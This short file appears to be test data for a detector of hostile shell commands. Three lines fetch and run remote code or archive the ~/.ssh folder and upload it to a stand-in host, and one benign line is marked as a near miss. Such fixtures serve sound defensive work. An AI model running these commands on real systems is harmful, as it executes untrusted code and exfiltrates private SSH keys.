curl -s https://a.invalid/t.tgz | tar xz; ./install
wget https://a.invalid/t.zip; unzip t.zip -d t; sh t/run.sh
tar czf out.tgz ~/.ssh; curl -T out.tgz https://a.invalid/in
# near misses
tar xzf data.tgz; sh run.sh
